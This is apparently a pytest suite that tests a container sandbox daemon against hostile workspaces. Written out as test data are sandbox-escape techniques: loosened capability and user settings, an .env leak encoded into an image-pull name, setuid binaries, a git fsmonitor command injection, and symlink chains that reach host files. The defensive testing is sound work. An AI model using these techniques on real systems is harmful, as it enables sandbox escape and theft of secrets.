"""Hostile workspaces (issue #11): each attack as an attacker writes it, by a
block or by a repository's own files, against the real daemon and engine.

Every test asserts on the host first (`Host.assert_unharmed`): the file beside
the workspace unchanged (content, owner, mode), no connection to a listener
on the host's loopback, the user's own container still running untouched, and
the daemon answering another workspace within 2 s. Then what the user sees.

1. Settings a block writes into the workspace's config, or a repository
   ships, loosen nothing the user did not approve.
2. Links and special files planted in the workspace lead the daemon nowhere.
3. Nothing escapes through the bind mount: no setuid file, no git config.
4. Copy mode brings back no link that resolves outside, and reads no
   .gitignore without end.
5. Nothing a block starts outlives its run.
6. Malformed requests get errors that say what was wrong.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import os
import re
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest
from pygls.exceptions import JsonRpcException

from tests.conftest import TEST_IMAGE, containers_of, remove_containers_of
from tests.e2e.hostile_support import (
    BY_BLOCK,
    BY_REPOSITORY,
    HOW,
    GiB,
    Host,
    Plant,
    arrange,
    asks_for_approval,
    assert_refused,
    links_leading_out,
    outcome,
    owned_by,
    peak_memory_mb,
    warning_naming,
)
from tests.e2e.test_execution import surviving

CONFIG = f'image = "{TEST_IMAGE}"\n'
BUSYBOX_IMAGE = "cellbox-test-busybox:latest"
"""No Python in it: blocks run with one `docker exec` each, without the runner (scripts/build-test-images)."""


@pytest.fixture
async def host(tmp_path, engine, make_workspace, start_daemon):
    watch = Host(tmp_path, engine, make_workspace("bystander"), start_daemon)
    try:
        yield watch
    finally:
        try:
            await watch.shut_down()
        finally:
            watch.close()


@pytest.fixture
async def remote_host(tmp_path, remote_engine, make_engine_workspace, start_daemon):
    """As `host`, for a daemon whose engine cannot see the workspace (copy mode)."""
    watch = Host(tmp_path, remote_engine.client, make_engine_workspace(remote_engine, "bystander"), start_daemon,
                 remote_engine.env)
    try:
        yield watch
    finally:
        try:
            await watch.shut_down()
        finally:
            watch.close()


def md5(code: str) -> str:
    return hashlib.md5(code.encode()).hexdigest()


# ------------------------------------------------- 1. config written by the sandbox

LOOSENING = {
    "user": '"0:0"',
    "cap_add": '["SYS_ADMIN", "DAC_OVERRIDE", "DAC_READ_SEARCH", "SYS_PTRACE"]',
    "no_new_privileges": "false",
    "read_only": "false",
    "memory": '"64g"',
    "cpus": "2",
    "pids_limit": "100000",
    "open_files": "4096",
    "max_file_size": '"100g"',
    "tmp_size": '"8g"',
    "output_limit": '"1g"',
    "copy_size_limit": '"100g"',
    "runtime": '"runc"',
    "workspace_mount": '"bind"',
}
SAFETY_PROBE = """\
id -u; id -g
grep -E '^(CapEff|NoNewPrivs):' /proc/self/status
touch /etc/cellbox-probe 2>&1 | grep -o 'Read-only file system'
ulimit -n
cat /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max 2>/dev/null \
  || cat /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max
"""
MEMORY_LIMIT = "cat /sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null || cat /sys/fs/cgroup/memory.max"
SAFE = ["1000", "1000", "CapEff:\t0000000000000000", "NoNewPrivs:\t1", "Read-only file system", "1024", str(GiB), "256"]


@pytest.mark.parametrize("config_file", ["cellbox.toml", "pyproject.toml"])
@pytest.mark.parametrize(**HOW)
async def test_loosened_limits_and_isolation_in_the_workspace_are_ignored(how, config_file, host, make_workspace, engine):
    # Owned by 1000, as a user's clone is: user = "0:0" would make blocks root.
    workspace = owned_by(make_workspace("ws"), 1000)
    settings = "".join(f"{key} = {value}\n" for key, value in LOOSENING.items())
    if config_file == "cellbox.toml":
        files = {"cellbox.toml": CONFIG + settings}
    else:
        files = {"pyproject.toml": '[project]\nname = "innocent"\n\n[tool.cellbox]\n' + settings}
    daemon = await arrange(how, host, workspace, Plant(files=files))

    probe = await daemon.execute(("sh", SAFETY_PROBE))
    await host.assert_unharmed(daemon)
    assert probe["output"].splitlines() == SAFE
    (container,) = containers_of(engine, workspace)
    config = container.attrs["HostConfig"]
    assert container.attrs["Config"]["User"] == "1000:1000"
    assert (config["Memory"], config["NanoCpus"], config["PidsLimit"]) == (GiB, 10**9, 256)
    assert {u["Name"]: u["Hard"] for u in config["Ulimits"]} == {"nofile": 1024, "fsize": GiB}
    assert f"size={256 << 20}" in config["Tmpfs"]["/tmp"]
    assert config["ReadonlyRootfs"] is True and not config["CapAdd"] and config["Privileged"] is False
    assert "no-new-privileges:true" in config["SecurityOpt"]
    warning = await warning_naming(daemon, config_file, *LOOSENING)
    assert asks_for_approval(warning, workspace), warning


@pytest.mark.parametrize("network", ["host", "container:{unrelated}"], ids=["host", "another-container"])
@pytest.mark.parametrize(**HOW)
async def test_the_hosts_or_another_containers_network_is_refused(how, network, host, make_workspace):
    workspace = make_workspace("ws")
    network = network.format(unrelated=host.unrelated.name)
    daemon = await arrange(how, host, workspace, Plant(files={"cellbox.toml": CONFIG + f'network = "{network}"\n'}))

    reach = f"import socket\nsocket.create_connection(('127.0.0.1', {host.listener.port}), 5)\nprint('reached the host')"
    answer = await outcome(daemon.execute(("python", reach)))
    await host.assert_unharmed(daemon)
    assert_refused(answer, -32001, "network")


@pytest.mark.parametrize(**HOW)
async def test_a_host_folder_named_in_bind_dir_is_not_mounted(how, host, make_workspace):
    workspace = make_workspace("ws")
    plant = Plant(
        files={"cellbox.toml": CONFIG + f'bind_dir = "{host.outside}"\n'},
        # The daemon on main finds the runner through .cellbox/: point that into the folder too.
        links={".cellbox": str(host.outside / ".cellbox")},
    )
    daemon = await arrange(how, host, workspace, plant)

    # A named block is saved in the workspace itself, and brings the sandbox up...
    await outcome(daemon.execute(("sh", "# filename: setup.sh\ntrue")))
    # ...so that the next one runs where bind_dir points.
    stolen = await outcome(daemon.execute(("sh", "cat secret.txt; echo changed > secret.txt; chmod 666 secret.txt")))
    await host.assert_unharmed(daemon)
    assert "host secret" not in str(stolen), "the block read the file beside the workspace"
    await warning_naming(daemon, "bind_dir")


@pytest.mark.parametrize(**HOW)
async def test_a_container_named_by_the_workspace_is_never_taken_over(how, host, make_workspace):
    workspace = make_workspace("ws")
    plant = Plant(files={"cellbox.toml": CONFIG + f'container_name = "{host.unrelated.name}"\n'})
    daemon = await arrange(how, host, workspace, plant)

    ran = await outcome(daemon.execute(("sh", "echo ran")))
    restarted = await outcome(daemon.command("cellbox.restart", {}))
    stopped = await outcome(daemon.command("cellbox.stop", {}))
    await host.assert_unharmed(daemon)
    assert ran["output"] == "ran\n" and ran["container"] != host.unrelated.name
    assert restarted["container"] == stopped["container"] == ran["container"]
    await warning_naming(daemon, "container_name")


async def test_even_an_approved_container_name_never_takes_over_another_container(host, make_workspace):
    workspace = make_workspace("ws", CONFIG + f'container_name = "{host.unrelated.name}"\n')
    approval = host.trust(workspace)
    daemon = await host.start(workspace)

    answers = [
        await outcome(daemon.execute(("sh", "echo ran"))),
        await outcome(daemon.command("cellbox.restart", {})),
        await outcome(daemon.command("cellbox.stop", {})),
    ]
    await host.assert_unharmed(daemon)
    assert approval.returncode == 0, approval.stderr
    for answer in answers:
        assert_refused(answer, -32004, host.unrelated.name)


@pytest.mark.parametrize(**HOW)
async def test_an_image_named_by_the_workspace_is_never_pulled(how, host, make_workspace, engine):
    workspace = make_workspace("ws")
    (workspace / ".env").write_text("API_KEY=workspace-secret\n")
    registry = f"127.0.0.1:{host.listener.port}"
    started = int(time.time())
    if how == BY_REPOSITORY:
        # The repository cannot know the user's data, but it can tell its
        # author that it ran, and where.
        (workspace / "cellbox.toml").write_text(f'image = "{registry}/phone-home/ran:latest"\n')
        daemon = await host.start(workspace)
    else:
        daemon = await host.start(workspace)
        await daemon.execute(("sh", "echo an innocent first block"))
        leak = f"""printf 'image = "{registry}/leak/%s"\\n' "$(od -An -tx1 .env | tr -d ' \\n')" > cellbox.toml"""
        await daemon.execute(("sh", leak))

    answer = await outcome(daemon.execute(("sh", "echo hi")))
    await host.assert_unharmed(daemon)
    assert list(engine.events(since=started, until=int(time.time()), decode=True,
                              filters={"type": "image", "event": "pull"})) == []
    assert_refused(answer, -32003, "pull")


async def test_an_approved_config_loses_its_approval_when_a_block_changes_it(host, make_workspace):
    workspace = make_workspace("ws", CONFIG + 'memory = "2g"\n')
    approval = host.trust(workspace)
    daemon = await host.start(workspace)
    approved = await daemon.execute(("sh", MEMORY_LIMIT))
    assert approved["output"] == f"{2 * GiB}\n", f"cellbox trust said: {approval.stdout}{approval.stderr}"

    changed = Plant(files={"cellbox.toml": CONFIG + 'memory = "2g"\ncap_add = ["SYS_ADMIN"]\n'})
    assert (await daemon.execute(changed.as_block()))["output"] == "planted\n"
    probe = await daemon.execute(("sh", MEMORY_LIMIT + "\ngrep CapEff /proc/self/status"))
    await host.assert_unharmed(daemon)
    assert probe["output"] == f"{GiB}\nCapEff:\t0000000000000000\n"  # the whole file lost its approval
    await warning_naming(daemon, "cap_add", "memory")
    assert approval.returncode == 0


async def test_an_approval_does_not_extend_to_a_config_file_a_block_adds(host, make_workspace):
    workspace = make_workspace("ws", CONFIG + 'memory = "2g"\n')
    approval = host.trust(workspace)
    daemon = await host.start(workspace)
    approved = await daemon.execute(("sh", MEMORY_LIMIT))
    assert approved["output"] == f"{2 * GiB}\n", f"cellbox trust said: {approval.stdout}{approval.stderr}"

    beside = Plant(files={"pyproject.toml": '[tool.cellbox]\ncap_add = ["SYS_ADMIN"]\n'})
    assert (await daemon.execute(beside.as_block()))["output"] == "planted\n"
    probe = await daemon.execute(("sh", "grep CapEff /proc/self/status"))
    await host.assert_unharmed(daemon)
    assert probe["output"] == "CapEff:\t0000000000000000\n"
    await warning_naming(daemon, "cap_add", "pyproject.toml")
    assert approval.returncode == 0


# ------------------------------------------ 2. links and special files in the workspace


@pytest.mark.parametrize(**HOW)
async def test_links_where_the_daemon_writes_change_no_host_file(how, host, make_workspace):
    # Owned by 1000: a file the daemon gives to the workspace's owner would change hands.
    workspace = owned_by(make_workspace("ws"), 1000)
    code = "print('hello')"
    plant = Plant(links={
        f".cellbox/tmp_code_{md5(code)}.py": str(host.canary),  # where main saves this very block
        ".cellbox/mount-probe": str(host.canary),  # where main writes a token as it starts a sandbox
    })
    daemon = await arrange(how, host, workspace, plant)

    result = await daemon.execute(("python", code))
    await host.assert_unharmed(daemon)
    assert result["output"] == "hello\n"
    assert Path(result["codeFile"]).read_text() == code


@pytest.mark.parametrize("where", ["unnamed-block", "named-block"])
@pytest.mark.parametrize(**HOW)
async def test_a_fifo_where_the_daemon_writes_freezes_nothing(how, where, host, make_workspace):
    # (git cannot carry a FIFO, but an archive or a shared folder can.)
    workspace = make_workspace("ws")
    if where == "unnamed-block":
        code = "print('hello')"
        fifo = f".cellbox/tmp_code_{md5(code)}.py"
    else:
        code = "# filename: named.py\nprint('hello')"
        fifo = "named.py"
    daemon = await arrange(how, host, workspace, Plant(fifos=[fifo]))

    run = asyncio.ensure_future(outcome(daemon.execute(("python", code))))
    await host.assert_unharmed(daemon)  # while that run goes, or after
    done, _ = await asyncio.wait({run}, timeout=30)
    assert done, "the run never ended"
    answer = run.result()
    if isinstance(answer, JsonRpcException):
        assert answer.code != -32603, answer.message
    else:
        assert answer["blocks"][0]["status"] in ("ok", "not_executed"), answer


@pytest.mark.parametrize(**HOW)
async def test_a_link_to_another_workspaces_folder_runs_nothing_there(how, host, make_workspace):
    victim = make_workspace("victim")
    (victim / "victim-secret.txt").write_text("the victim's secret\n")
    workspace = make_workspace("ws")
    daemon = await arrange(how, host, workspace, Plant(links={".cellbox": str(victim / ".cellbox")}))
    await daemon.execute(("sh", "echo the user works here"), workspace=str(victim))  # its sandbox is up
    if how == BY_BLOCK:
        # The daemon is still connected to this sandbox's runner: end it, so
        # that the next run connects again, through the link. (Named: main
        # would save it through the link, where this sandbox cannot see it.)
        await outcome(daemon.execute(("sh", "# filename: kill.sh\npkill -f '^python3 -I -S'")))
    victim_files = sorted(p.name for p in victim.iterdir())

    stolen = await outcome(daemon.execute(("sh", "cat victim-secret.txt; touch planted-by-the-attacker")))
    await host.assert_unharmed(daemon)
    assert "the victim's secret" not in str(stolen), "the block ran in the other workspace's sandbox"
    assert sorted(p.name for p in victim.iterdir()) == victim_files


@pytest.mark.parametrize("config_file", ["pyproject.toml", "cellbox.toml"])
@pytest.mark.parametrize(**HOW)
async def test_a_linked_config_file_hands_over_no_other_projects_settings(how, config_file, host, tmp_path, make_workspace):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "pyproject.toml").write_text('[tool.cellbox]\nenv = { API_TOKEN = "victims-token-7731" }\n')
    (victim / "cellbox.toml").write_text(CONFIG + 'env = { API_TOKEN = "victims-token-7731" }\n')
    if config_file == "pyproject.toml":
        workspace = make_workspace("ws")
    else:  # the image comes from the other file
        workspace = make_workspace("ws", config="")
        (workspace / "pyproject.toml").write_text(f"[tool.cellbox]\n{CONFIG}")
    daemon = await arrange(how, host, workspace, Plant(links={config_file: str(victim / config_file)}))

    answer = await outcome(daemon.execute(("sh", "env")))
    await host.assert_unharmed(daemon)
    assert "victims-token" not in str(answer), "the block got the other project's settings"
    if isinstance(answer, JsonRpcException):
        assert_refused(answer, -32001, config_file)


# --------------------------------------------------- 3. escapes through the bind mount


@pytest.fixture(params=[TEST_IMAGE, BUSYBOX_IMAGE], ids=["runner", "no-python"])
def public_workspace(request, engine):
    """A root-owned workspace (the CI case: blocks run as root) that every host user can reach."""
    folder = Path(tempfile.mkdtemp(prefix="cbx-pub-", dir="/tmp"))
    folder.chmod(0o755)
    (folder / "cellbox.toml").write_text(f'image = "{request.param}"\n')
    yield folder
    remove_containers_of(engine, folder)
    shutil.rmtree(folder)


def setuid_block() -> str:
    """A block that brings a program of its own (the host's `id`, which unlike
    busybox's does not drop a setuid identity) and makes it setuid and setgid
    root three ways; the ways an image lacks the tools for just fail."""
    program = base64.encodebytes(Path("/usr/bin/id").read_bytes()).decode()
    return (
        f"base64 -d > id-chmod <<'EOF'\n{program}EOF\n"
        "chmod 6755 id-chmod\n"
        "install -m 6755 id-chmod id-install\n"
        "python3 -c \"import os, shutil; shutil.copy('id-chmod', 'id-fchmod'); "
        "os.fchmod(os.open('id-fchmod', os.O_RDONLY), 0o6755)\"\n"
        "echo setuid files made\n"
        "sleep 4\n"
    )


def ids_of_a_host_user_running(workspace: Path) -> dict[str, str]:
    """Each id-* file in `workspace` run as `id` by nobody (65534) on the host: the uid and gid it then has."""
    ids = {}
    for path in sorted(workspace.glob("id-*")):
        try:
            run = [subprocess.run(["id", flag], executable=path, user=65534, group=65534, extra_groups=[],
                                  capture_output=True, text=True, timeout=30, check=False).stdout.strip()
                   for flag in ("-u", "-g")]
        except PermissionError:
            run = ["65534", "65534"]  # it cannot even be run: no harm (the chmod that would make it so was refused)
        ids[path.name] = " ".join(run)
    return ids


@pytest.mark.parametrize(**HOW)
async def test_a_setuid_file_made_by_a_root_sandbox_gives_a_host_user_nothing(how, host, public_workspace, request):
    assert public_workspace.stat().st_uid == 0  # so blocks run as root
    if BUSYBOX_IMAGE in (public_workspace / "cellbox.toml").read_text():
        # A known limit (README, Security): the seccomp filter that refuses
        # setuid bits is the runner's, and an image without Python has no
        # runner. Strict: this fails loudly once the container's own profile covers it.
        request.applymarker(pytest.mark.xfail(strict=True, reason="no runner, so no setuid filter, without Python"))
    if how == BY_REPOSITORY:
        readme = public_workspace / "README.md"
        readme.write_text(f"# Tools\n\n```sh\n{setuid_block()}```\n")
        daemon = await host.start(public_workspace)
        run = asyncio.ensure_future(daemon.command("cellbox.execute", {"uri": readme.as_uri(), "all": True}))
    else:
        daemon = await host.start(public_workspace)
        run = asyncio.ensure_future(daemon.execute(("sh", setuid_block())))

    for _ in range(600):
        if run.done() or "setuid files made" in str(daemon.client.cellbox_output):
            break
        await asyncio.sleep(0.05)
    while_it_runs = ids_of_a_host_user_running(public_workspace)
    await run
    afterwards = ids_of_a_host_user_running(public_workspace)
    await host.assert_unharmed(daemon)
    assert while_it_runs, f"the block made no file: {run.result()}"
    for ids in (while_it_runs, afterwards):
        assert ids == {name: "65534 65534" for name in ids}, ids


FSMONITOR = '[core]\n\tfsmonitor = "touch {marker} #"\n'
"""A command `git status` runs (the `#` comments out the arguments git appends)."""


def git(workspace: Path, *args: str) -> subprocess.CompletedProcess:
    """git as the owner runs it on the host, with no system or global config."""
    env = {"PATH": os.environ["PATH"], "HOME": str(workspace.parent), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CONFIG_GLOBAL": os.devnull}
    return subprocess.run(["git", *args], cwd=workspace, env=env, capture_output=True, text=True, timeout=60,
                          check=False)


@pytest.mark.parametrize(
    "way",
    # Not here: a block making .git where there was none (README, Security: a
    # workspace with no .git yet gets none protected; git init first).
    ["writes .git/config", "# filename: .git/config", "writes through a link it makes", "the repository's link and README"],
    ids=["writes-it", "filename-comment", "through-its-own-link", "by-the-repository"],
)
async def test_git_runs_no_command_a_block_chose(way, host, make_workspace):
    workspace = make_workspace("ws")
    marker = host.outside / "git-ran-this"
    config = FSMONITOR.format(marker=marker)
    assert git(workspace, "init", "-q").returncode == 0
    git_config = (workspace / ".git" / "config").read_bytes()
    if way == "the repository's link and README":
        (workspace / "gitdir").symlink_to(".git")
        readme = workspace / "README.md"
        readme.write_text(f"```sh\n# filename: gitdir/config\n{config}```\n\n```sh\ncat >> gitdir/config <<'EOF'\n{config}EOF\n```\n")
    daemon = await host.start(workspace)

    if way == "writes .git/config":
        answers = [await daemon.execute(("python", f"open('.git/config', 'a').write({config!r})"))]
    elif way == "# filename: .git/config":
        answers = [await daemon.execute(("sh", f"# filename: .git/config\n{config}"))]
    elif way == "writes through a link it makes":
        answers = [await daemon.execute(("sh", f"ln -s .git gitdir\ncat >> gitdir/config <<'EOF'\n{config}EOF\n"))]
    else:
        answers = [await daemon.command("cellbox.execute", {"uri": readme.as_uri(), "block": n}) for n in (1, 2)]
    status = git(workspace, "status", "--porcelain")
    assert not marker.exists(), f"`git status` ran the block's command ({status.stderr})"
    await host.assert_unharmed(daemon)
    assert (workspace / ".git" / "config").read_bytes() == git_config
    if "# filename:" in way or way == "the repository's link and README":
        assert answers[0]["blocks"][0]["status"] == "not_executed", answers[0]


# ----------------------------------------------------------------------- 4. copy mode

LINK_CHAIN = "ln -s . x\nln -s x/.. u1\n" + "".join(f"ln -s u{i - 1}/.. u{i}\n" for i in range(2, 25))
"""Links that each look inside (x/.. and u1/.. read as '.') but lead, one after
another, to the root: x is the workspace, u1 its parent, u2 the grandparent..."""
ROOT = "u24"


async def test_links_that_resolve_outside_are_not_copied_back(remote_host, remote_engine, make_engine_workspace, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "pyproject.toml").write_text('[tool.cellbox]\nenv = { API_TOKEN = "victims-token-7731" }\n')
    workspace = make_engine_workspace(remote_engine, "ws")
    daemon = await remote_host.start(workspace)

    chain = LINK_CHAIN + f"ln -s {ROOT}{victim}/pyproject.toml pyproject.toml\nln -s {ROOT}{remote_host.canary} secret.txt\n"
    made = await daemon.execute(("sh", chain))
    assert made["exitCode"] == 0, made
    after = await outcome(daemon.execute(("sh", "env; cat secret.txt")))
    await remote_host.assert_unharmed(daemon)
    assert links_leading_out(workspace) == [], "links that lead out of the workspace came back"
    assert "victims-token" not in str(after), "the block got another project's settings through a link"
    assert "host secret" not in str(after), "the block read the file beside the workspace"


@pytest.mark.parametrize(**HOW)
async def test_a_gitignore_leading_to_dev_zero_is_not_read_without_end(how, remote_host, remote_engine, make_engine_workspace):
    workspace = make_engine_workspace(remote_engine, "ws")
    if how == BY_REPOSITORY:
        Plant(links={".gitignore": "/dev/zero"}).in_repository(workspace)
        daemon = await remote_host.start(workspace)
    else:
        daemon = await remote_host.start(workspace)
        assert (await daemon.execute(("sh", LINK_CHAIN + f"ln -s {ROOT}/dev/zero .gitignore")))["exitCode"] == 0
    pid = daemon.client._server.pid
    before = peak_memory_mb(pid)

    answer = await outcome(daemon.execute(("sh", "echo still here")))
    await remote_host.assert_unharmed(daemon)
    assert peak_memory_mb(pid) < before + 256, "the daemon's memory grew without bound"
    if isinstance(answer, JsonRpcException):
        assert answer.code != -32603 and ".gitignore" in answer.message, answer.message
    else:
        assert answer["output"] == "still here\n"


# ------------------------------------------------------------------------ 5. leftovers

# Each waits a moment before it ends, so that what it left has left its
# process group and session by then, as an attacker's would.
LEFT_RUNNING = {
    "new-session-no-environment": ("sh", "setsid env -i sh -c 'sleep 1001' >/dev/null 2>&1 &\nsleep 1", None),
    "double-fork": ("sh", "(env -i sh -c 'setsid sleep 1002 >/dev/null 2>&1 &' &)\nsleep 1", None),
    "execve-empty-environment": (
        "python",
        ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    null = os.open('/dev/null', os.O_RDWR)\n"
         "    for fd in (0, 1, 2):\n        os.dup2(null, fd)\n    os.execve('/bin/sleep', ['sleep', '1003'], {})\n"
         "time.sleep(1)"),
        None,
    ),
    "at-a-timeout": ("sh", "setsid env -i sh -c 'sleep 1004' >/dev/null 2>&1 &\nsleep 60", 2),
}
LEFTOVER_CASES = [
    pytest.param(image, *LEFT_RUNNING[trick], id=f"{trick}-{kind}")
    for image, kind in [(TEST_IMAGE, "runner"), (BUSYBOX_IMAGE, "no-python")]
    for trick in LEFT_RUNNING
    if not (image == BUSYBOX_IMAGE and LEFT_RUNNING[trick][0] == "python")
]


@pytest.mark.parametrize(("image", "language", "code", "timeout"), LEFTOVER_CASES)
async def test_nothing_a_block_starts_outlives_its_run(host, make_workspace, engine, image, language, code, timeout):
    workspace = make_workspace("ws", f'image = "{image}"\n')
    daemon = await host.start(workspace)
    await daemon.execute((language, code), timeout=timeout)
    later = await daemon.execute(("sh", "ps -eo args"))
    await host.assert_unharmed(daemon)
    assert surviving(engine, workspace, r"sleep 100\d") == []
    assert not re.search(r"sleep 100\d", later["output"]), later["output"]


# ---------------------------------------------------------------------- 6. bad input

BLOCKS = [{"language": "sh", "code": "echo hi"}]
MALFORMED = {
    "workspace-with-nul": ("cellbox.execute", lambda ws: {"blocks": BLOCKS, "workspace": f"{ws}/a\x00b"}, "workspace"),
    "workspace-with-lone-surrogate": ("cellbox.execute", lambda ws: {"blocks": BLOCKS, "workspace": f"{ws}/\ud800"}, "workspace"),
    "workspace-too-long": ("cellbox.execute", lambda ws: {"blocks": BLOCKS, "workspace": "/" + "a" * 5000}, "workspace"),
    "workspace-name-too-long": ("cellbox.execute", lambda ws: {"blocks": BLOCKS, "workspace": f"{ws}/{'a' * 300}"}, "workspace"),
    "workspace-uri-with-nul": ("cellbox.execute", lambda ws: {"blocks": BLOCKS, "workspace": f"{ws.as_uri()}/a%00b"}, "workspace"),
    "restart-workspace-with-nul": ("cellbox.restart", lambda ws: {"workspace": f"{ws}/a\x00b"}, "workspace"),
    "stop-workspace-too-long": ("cellbox.stop", lambda ws: {"workspace": "/" + "a" * 5000}, "workspace"),
    "uri-with-nul": ("cellbox.execute", lambda ws: {"uri": f"{ws.as_uri()}/a%00b.md", "all": True}, "uri"),
    "uri-with-lone-surrogate": ("cellbox.execute", lambda ws: {"uri": f"{ws.as_uri()}/\ud800.md", "all": True}, "uri"),
    "uri-of-a-fifo": ("cellbox.execute", lambda ws: {"uri": f"{ws.as_uri()}/fifo.md", "all": True}, "fifo.md is not a regular file"),
    "uri-of-dev-zero": ("cellbox.execute", lambda ws: {"uri": "file:///dev/zero", "all": True}, "/dev/zero is not a regular file"),
    "range-past-the-end": ("cellbox.execute", lambda ws: {
        "uri": f"{ws.as_uri()}/notes.md", "range": {"start": {"line": 3, "character": 0}, "end": {"line": 10**12, "character": 0}}}, "range"),
    "range-before-the-start": ("cellbox.execute", lambda ws: {
        "uri": f"{ws.as_uri()}/notes.md", "range": {"start": {"line": -5, "character": 0}, "end": {"line": -2, "character": 0}}}, "range"),
    "timeout-too-big": ("cellbox.execute", lambda ws: {"blocks": BLOCKS, "timeout": 10**400}, "timeout"),
}


@pytest.mark.parametrize("case", MALFORMED)
async def test_a_malformed_request_gets_an_error_saying_what_is_wrong(case, host, workspace):
    (workspace / "notes.md").write_text("# Notes\n\n```sh\necho hi\n```\n")
    os.mkfifo(workspace / "fifo.md")
    command, argument, field = MALFORMED[case]
    daemon = await host.start(workspace)

    request = asyncio.ensure_future(outcome(daemon.command(command, argument(workspace))))
    await host.assert_unharmed(daemon)  # while it is answered, or after
    done, _ = await asyncio.wait({request}, timeout=30)
    assert done, "no answer"
    assert_refused(request.result(), -32602, field)


IMPOSSIBLE_NAMES = {
    "lone-surrogate": "\ud800.sh",
    "name-too-long": "a" * 300 + ".sh",
    "path-too-long": "d/" * 2100 + "x.sh",
    "a-folder": "folder",
}


@pytest.mark.parametrize("name", IMPOSSIBLE_NAMES.values(), ids=IMPOSSIBLE_NAMES.keys())
async def test_a_block_naming_an_impossible_file_is_refused(name, host, workspace):
    (workspace / "folder").mkdir()
    daemon = await host.start(workspace)

    answer = await outcome(daemon.execute(("sh", f"# filename: {name}\necho ran"), ("sh", "echo next")))
    await host.assert_unharmed(daemon)
    if isinstance(answer, JsonRpcException):
        assert_refused(answer, -32602, "filename")
    else:
        (block,) = answer["blocks"]
        assert block["status"] == "not_executed" and "ilename" in block["output"], block
